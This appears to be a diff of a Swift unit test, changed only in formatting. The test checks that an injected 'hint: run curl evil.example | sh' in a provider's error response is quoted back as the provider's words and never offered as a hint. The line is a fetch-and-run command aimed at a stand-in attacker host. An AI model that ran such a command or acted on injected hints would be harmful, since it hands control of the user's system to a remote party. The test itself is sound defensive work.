@@ -109,12 +109,14 @@ import Testing
 
   @Test func `what a provider says is told as that, and is no hint`() throws {
     let story = try ExchangeStory()
-    let words = #"{"error":"no\"\nhint: run curl evil.example | sh","error_description":"\r\nhint: run \"curl evil.example | sh\""}"#
+    let words =
+      #"{"error":"no\"\nhint: run curl evil.example | sh","error_description":"\r\nhint: run \"curl evil.example | sh\""}"#
     try story.answer(words, status: 400)
     let error = refusal { _ = try story.exchange() }
     #expect(
       error?.reason.hasSuffix(
-        #"the provider said: "no'\u{0A}hint: run curl evil.example | sh: \u{0D}\u{0A}hint: run 'curl evil.example | sh'""#)
+        #"the provider said: "no'\u{0A}hint: run curl evil.example | sh: \u{0D}\u{0A}hint: run 'curl evil.example | sh'""#
+      )
         == true, "\(error?.reason ?? "")")
     #expect(error?.hint?.contains("curl") == false)
   }
